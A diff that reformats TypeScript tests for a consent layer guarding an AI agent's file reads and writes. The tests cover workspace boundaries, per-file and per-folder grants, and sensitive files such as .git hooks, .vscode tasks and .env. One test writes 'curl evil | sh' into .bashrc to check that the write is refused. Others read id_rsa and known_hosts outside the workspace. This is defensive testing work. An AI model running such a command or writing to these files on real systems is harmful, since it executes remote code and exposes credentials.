@@ -36,7 +36,8 @@ function setup(answers: ScriptedAnswers = {}, roots?: string[]) {
   const files = new DiskFiles();
   const fs = fileSystemCallbacks({ agent: "A", roots: () => roots ?? [root], files, consent, grants: scope });
   const read = (path: string, sessionId = "s") => fs.readTextFile({ sessionId, path }, signal);
-  const write = (path: string, content: string, sessionId = "s") => fs.writeTextFile({ sessionId, path, content }, signal);
+  const write = (path: string, content: string, sessionId = "s") =>
+    fs.writeTextFile({ sessionId, path, content }, signal);
   return { root, outside, consent, grants, scope, files, read, write };
 }
 
@@ -61,7 +62,7 @@ test("reads inside the workspace never ask", async () => {
   assert.deepEqual(consent.asked, []);
 });
 
-test("\"Allow this file\" lets that session read the file again without asking, and nothing else", async () => {
+test('"Allow this file" lets that session read the file again without asking, and nothing else', async () => {
   const { outside, consent, grants, read } = setup({ read: "file" });
   const key = join(outside, "id_rsa");
   assert.equal((await read(key)).content, "PRIVATE KEY\n");
@@ -69,13 +70,22 @@ test("\"Allow this file\" lets that session read the file again without asking, 
   assert.deepEqual(consent.asked, [`read ${key}`], "asked once for the file");
   await read(join(outside, "known_hosts"));
   await read(key, "another-session");
-  assert.deepEqual(consent.asked, [`read ${key}`, `read ${join(outside, "known_hosts")}`, `read ${key}`], "a sibling file and another session ask again");
-  assert.deepEqual(grants.list().map((g) => [g.agent, g.sessionId, g.kind, g.path]), [
-    ["A", "s", "file", key], ["A", "s", "file", join(outside, "known_hosts")], ["A", "another-session", "file", key],
-  ]);
+  assert.deepEqual(
+    consent.asked,
+    [`read ${key}`, `read ${join(outside, "known_hosts")}`, `read ${key}`],
+    "a sibling file and another session ask again",
+  );
+  assert.deepEqual(
+    grants.list().map((g) => [g.agent, g.sessionId, g.kind, g.path]),
+    [
+      ["A", "s", "file", key],
+      ["A", "s", "file", join(outside, "known_hosts")],
+      ["A", "another-session", "file", key],
+    ],
+  );
 });
 
-test("\"Allow this folder for this session\" covers the folder and below; revoking or ending the connection asks again", async () => {
+test('"Allow this folder for this session" covers the folder and below; revoking or ending the connection asks again', async () => {
   const { outside, consent, grants, scope, read } = setup({ read: "folder" });
   await read(join(outside, "id_rsa"));
   await read(join(outside, "known_hosts"));
@@ -107,7 +117,13 @@ test("a folder grant never covers the home folder, its parents or a filesystem r
   } finally {
     process.env.HOME = home;
   }
-  assert.deepEqual(grants.list().map((g) => [g.kind, g.path]), [["file", join(outside, "id_rsa")], ["file", join(outside, "known_hosts")]]);
+  assert.deepEqual(
+    grants.list().map((g) => [g.kind, g.path]),
+    [
+      ["file", join(outside, "id_rsa")],
+      ["file", join(outside, "known_hosts")],
+    ],
+  );
   assert.equal(consent.asked.length, 2, "each file asked");
 });
 
@@ -132,7 +148,11 @@ test("a read grant never allows a write", async () => {
 test("with no folder open nothing is inside: every read and write asks, and says no folder is open", async () => {
   const { root, consent, read, write } = setup({ read: "deny", outside: false }, []);
   writeFileSync(join(root, "notes.txt"), "hello\n");
-  await assert.rejects(read(join(root, "notes.txt")), (error: { code?: number; data?: { reason?: string } }) => error.code === -32003 && error.data?.reason === "no-folder");
+  await assert.rejects(
+    read(join(root, "notes.txt")),
+    (error: { code?: number; data?: { reason?: string } }) =>
+      error.code === -32003 && error.data?.reason === "no-folder",
+  );
   await assert.rejects(write(join(root, ".bashrc"), "curl evil | sh"), /no folder is open/);
   assert.equal(existsSync(join(root, ".bashrc")), false);
   assert.deepEqual(consent.asked, [`read ${join(root, "notes.txt")}`, `outside ${join(root, ".bashrc")}`]);
@@ -152,26 +172,50 @@ test("a session with no folder open uses no root for consent, though the agent s
   await chat.prompt("fs-roundtrip");
   const newSession = agent.received().find((m) => m.method === "session/new")?.params as { cwd?: string };
   assert.equal(newSession.cwd, dir, "session/new still gets the cwd");
-  assert.deepEqual(consent.asked, [`read ${join(dir, "notes.txt")}`, `outside ${join(dir, "result.txt")}`, `outside ${join(dir, "notes.txt")}`],
-    "the read asked once (file granted), each write asked");
+  assert.deepEqual(
+    consent.asked,
+    [`read ${join(dir, "notes.txt")}`, `outside ${join(dir, "result.txt")}`, `outside ${join(dir, "notes.txt")}`],
+    "the read asked once (file granted), each write asked",
+  );
   assert.equal(exchanges(agent, /^fs\//).length, 4);
 });
 
 // ---- item 5: sensitive files inside the workspace ----
 
 const SENSITIVE = [
-  ".git/config", ".git/hooks/pre-commit", "sub/.git/HEAD", ".vscode/tasks.json", ".vscode/settings.json", ".env", ".env.local",
-  ".envrc", "packages/app/.npmrc", ".yarnrc", ".yarnrc.yml", "pip.conf", "uv.toml", ".GIT/config", ".VSCode/launch.json", ".git./config",
+  ".git/config",
+  ".git/hooks/pre-commit",
+  "sub/.git/HEAD",
+  ".vscode/tasks.json",
+  ".vscode/settings.json",
+  ".env",
+  ".env.local",
+  ".envrc",
+  "packages/app/.npmrc",
+  ".yarnrc",
+  ".yarnrc.yml",
+  "pip.conf",
+  "uv.toml",
+  ".GIT/config",
+  ".VSCode/launch.json",
+  ".git./config",
 ];
 
 test("writes to sensitive files inside the workspace ask every time, and the prompt says why", async () => {
   const { root, consent, write } = setup({ sensitive: false });
   for (const name of SENSITIVE) {
-    await assert.rejects(write(join(root, name), "x"), (error: { code?: number; message?: string; data?: { reason?: string } }) =>
-      error.code === -32003 && error.data?.reason === "sensitive-file" && /did not allow/.test(error.message ?? ""), name);
+    await assert.rejects(
+      write(join(root, name), "x"),
+      (error: { code?: number; message?: string; data?: { reason?: string } }) =>
+        error.code === -32003 && error.data?.reason === "sensitive-file" && /did not allow/.test(error.message ?? ""),
+      name,
+    );
     assert.equal(existsSync(join(root, name)), false, `${name} was not written`);
   }
-  assert.deepEqual(consent.asked, SENSITIVE.map((name) => `sensitive ${join(root, name)}`));
+  assert.deepEqual(
+    consent.asked,
+    SENSITIVE.map((name) => `sensitive ${join(root, name)}`),
+  );
   assert.match(consent.reasons[0]!, /\.git\/.*hooks and config run code/);
   assert.match(consent.reasons[3]!, /\.vscode\/.*tasks/);
   assert.match(consent.reasons[5]!, /\.env/);
@@ -184,12 +228,23 @@ test("an allowed sensitive write lands, and the next one asks again", async () =
   await write(join(root, ".vscode/tasks.json"), "{}");
   await write(join(root, ".vscode/tasks.json"), "{ }");
   assert.equal(readFileSync(join(root, ".vscode/tasks.json"), "utf8"), "{ }");
-  assert.deepEqual(consent.asked, [`sensitive ${join(root, ".vscode/tasks.json")}`, `sensitive ${join(root, ".vscode/tasks.json")}`]);
+  assert.deepEqual(consent.asked, [
+    `sensitive ${join(root, ".vscode/tasks.json")}`,
+    `sensitive ${join(root, ".vscode/tasks.json")}`,
+  ]);
 });
 
 test("ordinary files inside the workspace, even look-alikes, are written without asking", async () => {
   const { root, consent, write } = setup();
-  for (const name of ["src/app.ts", ".gitignore", ".github/workflows/ci.yml", "environment.ts", "notes/git/readme.md", "npmrc.md"]) await write(join(root, name), "ok");
+  for (const name of [
+    "src/app.ts",
+    ".gitignore",
+    ".github/workflows/ci.yml",
+    "environment.ts",
+    "notes/git/readme.md",
+    "npmrc.md",
+  ])
+    await write(join(root, name), "ok");
   assert.deepEqual(consent.asked, []);
 });
 
@@ -222,12 +277,21 @@ test("the fake agent's consent scenarios echo a refusal's code and message (used
   writeFileSync(join(outside, "secret.txt"), "s3cret\n");
   const agent = fakeAgent("Fake");
   const consent = new ScriptedConsent({ read: "deny", sensitive: false });
-  const { chat } = chatSession(cleanup, [agent.launch], { workspace: { cwd: () => dir, roots: () => [dir] }, ports: { files: new DiskFiles(), consent } });
+  const { chat } = chatSession(cleanup, [agent.launch], {
+    workspace: { cwd: () => dir, roots: () => [dir] },
+    ports: { files: new DiskFiles(), consent },
+  });
   await chat.start();
   await chat.prompt(`e2e-read-guarded ${join(outside, "secret.txt")}`);
   await chat.prompt("e2e-write-guarded .git/config [core]");
   const text = assistantText(chat.store.state.thread);
-  assert.match(text, /Read refused \(-32003\): Permission denied: the user did not allow reading outside the workspace/);
-  assert.match(text, /Write refused \(-32003\): Permission denied: the user did not allow writing .*\.git\/config, which is inside \.git\//);
+  assert.match(
+    text,
+    /Read refused \(-32003\): Permission denied: the user did not allow reading outside the workspace/,
+  );
+  assert.match(
+    text,
+    /Write refused \(-32003\): Permission denied: the user did not allow writing .*\.git\/config, which is inside \.git\//,
+  );
   assert.equal(existsSync(join(dir, ".git/config")), false);
 });
